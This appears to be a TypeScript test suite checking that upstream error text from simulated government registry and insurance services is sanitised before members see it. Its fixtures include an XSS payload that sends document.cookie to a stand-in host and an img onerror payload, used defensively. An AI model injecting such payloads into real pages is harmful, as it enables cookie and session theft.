/**
 * What an upstream says when it fails never reaches members verbatim (issue #10, finding 7): a SOAP
 * fault's `<script>`, file paths and internal addresses came back in the problem's `detail`. Hostile
 * upstreams on 127.0.0.1 stand in for the civil-status registry (SOAP faults, soap:Client and
 * soap:Server) and the health-insurance system (REST error envelopes, 4xx and 5xx) and fail with hostile
 * text — script tags, file paths, internal addresses and host names, a stack trace over several lines,
 * very long text, personal identifiers. Members get the stable code and one bounded, sanitised line, on
 * the synchronous answer and on a delivery's status; the operator's log gets the upstream's words in full,
 * personal identifiers redacted.
 */
import { randomUUID } from 'node:crypto';
import { Writable } from 'node:stream';
import { fixtureInput } from '../../adapters/civil-status/test-support';
import { getPopulation } from '../../adapters/sdk/simulator/population';
import { createLogger } from '../../hub/observability/logger';
import { startWorld, type World } from '../../hub/sandbox/world';
import { startWorkerRuntime, type WorkerRuntime } from '../../hub/worker-runtime';
import { startHostileUpstream, type Answer, type HostileUpstream } from '../helpers/hostile-upstream';
import { useRedis } from '../helpers/redis';

const SOAP = 'http://schemas.xmlsoap.org/soap/envelope/';
const REGISTER_DEATH = 'VN:GOV:00:BTP/HOTICH/register-death/v1';
const CARD_OF_PERSON = 'VN:GOV:00:BHXH/BHYT/card-of-person/v1';
const PERSONAL_ID = '079099012345';

/** Hostile texts: what the upstream writes, and what of it must never reach a member. */
const TEXTS: [threat: string, text: string, forbidden: string[]][] = [
  [
    'a script tag',
    'Không tìm thấy <script>fetch("https://evil.example/"+document.cookie)</script>hồ sơ',
    ['<script', 'document.cookie', 'evil.example'],
  ],
  [
    'file paths',
    'ORA-12154 reading /u01/app/oracle/product/19c/network/admin/tnsnames.ora and C:\\inetpub\\wwwroot\\HoTich\\web.config',
    ['/u01/app', 'tnsnames', 'C:\\', 'inetpub'],
  ],
  [
    'internal addresses and host names',
    'connect to 10.20.30.40:1521 (db01.hotich.internal) failed; console http://192.168.1.5:8080/admin',
    ['10.20.30.40', 'db01', 'hotich.internal', '192.168.1.5', ':8080'],
  ],
  [
    'a stack trace over several lines',
    'System.NullReferenceException: Object reference not set\r\n   at HoTich.Service.DangKy(String id) in D:\\src\\HoTich\\Service.cs:line 42\n   at HoTich.Api.Handle()',
    ['\n', '\r', 'D:\\src', 'Service.cs'],
  ],
  ['very long text (40 KB)', `Lỗi hệ thống ${'rất dài '.repeat(5_000)}KẾT-THÚC`, ['KẾT-THÚC']],
  [
    'personal identifiers',
    `Công dân ${PERSONAL_ID} (điện thoại 0912345678, email a.nguyen@example.vn) không tồn tại`,
    [PERSONAL_ID, '0912345678', 'a.nguyen@example.vn'],
  ],
];

const xmlText = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
const soapFault = (kind: 'Client' | 'Server', text: string): Answer => ({
  status: 500,
  contentType: 'text/xml; charset=utf-8',
  body: `<?xml version="1.0" encoding="UTF-8"?><soap:Envelope xmlns:soap="${SOAP}"><soap:Body><soap:Fault><faultcode>soap:${kind}</faultcode><faultstring>${xmlText(text)}</faultstring><detail><loi><maLoi>${xmlText(`<b>${text.slice(0, 40)}</b>`)}</maLoi></loi></detail></soap:Fault></soap:Body></soap:Envelope>`,
});
const restError = (status: number, text: string): Answer => ({
  status,
  contentType: 'application/json; charset=utf-8',
  body: JSON.stringify({ errorCode: `<img src=x onerror=alert(1)>`, errorMessage: text }),
});

const redis = useRedis();
let world: World;
let worker: WorkerRuntime;
let registry: HostileUpstream;
let insurance: HostileUpstream;
const logged: Record<string, unknown>[] = [];
const sink = new Writable({
  write(chunk: Buffer, _enc, done) {
    for (const line of chunk.toString().split('\n'))
      if (line) logged.push(JSON.parse(line) as Record<string, unknown>);
    done();
  },
});

beforeAll(async () => {
  registry = await startHostileUpstream();
  insurance = await startHostileUpstream();
  const logger = createLogger('info', sink);
  world = await startWorld({
    redisUrl: redis.url,
    adapters: ['civil-status', 'health-insurance'],
    upstreams: { 'civil-status': registry.url, 'health-insurance': insurance.url },
    members: ['VN:GOV:79:UBND-TANHIEP'],
    logger,
    env: { LIENTHONG_DELIVERY_ATTEMPTS: '1' },
  });
  worker = await startWorkerRuntime({ config: world.config, nodeId: 'fault-text-worker', logger });
}, 60_000);
redis.beforeStop(async () => {
  await worker?.close();
  await world?.close();
  await Promise.all([registry?.close(), insurance?.close()]);
});

const ward = () => world.client('VN:GOV:79:UBND-TANHIEP', 'MOTCUA');
const deathInput = fixtureInput('register-death.ok');
const citizen = getPopulation().persons[0].personalId;

/** Every string a member can read in an answer, however deep. */
const stringsOf = (v: unknown): string[] =>
  typeof v === 'string'
    ? [v]
    : v && typeof v === 'object'
      ? Object.values(v as Record<string, unknown>).flatMap(stringsOf)
      : [];

/** None of the forbidden fragments anywhere; the human-readable lines single and bounded. */
function expectMemberSafe(answer: Record<string, unknown>, forbidden: string[]): void {
  const strings = stringsOf(answer);
  for (const f of forbidden) expect(strings.filter((s) => s.includes(f))).toEqual([]);
  for (const key of ['title', 'titleVi', 'detail'] as const) {
    const v = answer[key];
    if (typeof v !== 'string') continue;
    expect(v).not.toMatch(/[\r\n]/);
    expect(v.length).toBeLessThanOrEqual(key === 'detail' ? 200 : 300);
  }
}

/** The operator's log line about this message's upstream failure. */
function operatorLine(messageId: string): { upstreamText?: string; reason?: string } {
  const line = logged.find((l) => l.messageId === messageId && l.msg === 'upstream call failed');
  expect(line).toBeDefined();
  return (line!.upstreamError ?? {}) as { upstreamText?: string; reason?: string };
}

/** What the operator must still be able to read (the log is redacted of personal identifiers only). */
const evidence = (text: string): string =>
  text.includes(PERSONAL_ID) ? 'không tồn tại' : text.replace(/\s+/g, ' ').slice(0, 30).trim();

describe('SOAP faults (civil-status register-death)', () => {
  it.each(
    TEXTS.flatMap(([threat, text, forbidden]) =>
      (['Client', 'Server'] as const).map((kind): [string, string, string, string[]] => [
        `soap:${kind}`,
        threat,
        text,
        forbidden,
      ]),
    ),
  )(
    '%s fault with %s: stable code, one safe line; the operator gets it all',
    async (kind, _threat, text, forbidden) => {
      registry.behave(() => soapFault(kind === 'soap:Client' ? 'Client' : 'Server', text));
      const res = await ward().call(REGISTER_DEATH, {
        purpose: 'ho-tich.khai-tu',
        body: deathInput,
        idempotencyKey: randomUUID(),
      });
      const problem = res.body as Record<string, unknown>;
      if (kind === 'soap:Client')
        expect(res).toMatchObject({ status: 422, body: { code: 'UPSTREAM_REJECTED' } });
      else expect(res).toMatchObject({ status: 503, body: { code: 'UPSTREAM_UNAVAILABLE' } });
      expectMemberSafe(problem, forbidden);
      const said = operatorLine(res.messageId);
      expect(said.upstreamText).toContain(evidence(text));
      expect(said.upstreamText).not.toContain(PERSONAL_ID);
    },
  );
});

describe('REST error envelopes (health-insurance card-of-person)', () => {
  it.each(
    TEXTS.flatMap(([threat, text, forbidden]) =>
      [422, 500].map((status): [number, string, string, string[]] => [status, threat, text, forbidden]),
    ),
  )(
    'HTTP %s with %s: stable code, one safe line; the operator gets it all',
    async (status, _threat, text, forbidden) => {
      insurance.behave(() => restError(status, text));
      const res = await ward().call(CARD_OF_PERSON, {
        purpose: 'ho-tich.khai-tu',
        body: { personalId: citizen },
      });
      expect(res).toMatchObject({
        status: status === 422 ? 422 : 503,
        body: { code: status === 422 ? 'UPSTREAM_REJECTED' : 'UPSTREAM_UNAVAILABLE' },
      });
      expectMemberSafe(res.body as Record<string, unknown>, [...forbidden, '<img', 'onerror']);
      const said = operatorLine(res.messageId);
      expect(said.upstreamText).toContain(evidence(text));
      expect(said.upstreamText).not.toContain(PERSONAL_ID);
    },
  );
});

describe('a delivery’s status', () => {
  it.each(TEXTS)('a dead delivery refused with %s shows one safe line', async (_threat, text, forbidden) => {
    registry.behave(() => soapFault('Client', text));
    const accepted = await ward().request('POST', '/v1/deliveries', {
      purpose: 'ho-tich.khai-tu',
      body: { service: REGISTER_DEATH, input: deathInput },
      idempotencyKey: randomUUID(),
    });
    expect(accepted.status).toBe(202);
    const { id } = accepted.body as { id: string };
    let status: Record<string, unknown> = {};
    for (const until = Date.now() + 15_000; Date.now() < until;) {
      status = (await ward().request('GET', `/v1/deliveries/${id}`, { purpose: 'ho-tich.khai-tu' }))
        .body as Record<string, unknown>;
      if (status.state === 'dead') break;
      await new Promise((r) => setTimeout(r, 50));
    }
    expect(status).toMatchObject({ state: 'dead', lastError: { code: 'rejected' } });
    expectMemberSafe(status, forbidden);
    for (const e of [status.lastError, ...((status.errors as unknown[]) ?? [])] as { reason?: string }[]) {
      expect(e.reason).not.toMatch(/[\r\n]/);
      expect((e.reason ?? '').length).toBeLessThanOrEqual(200);
    }
  });
});
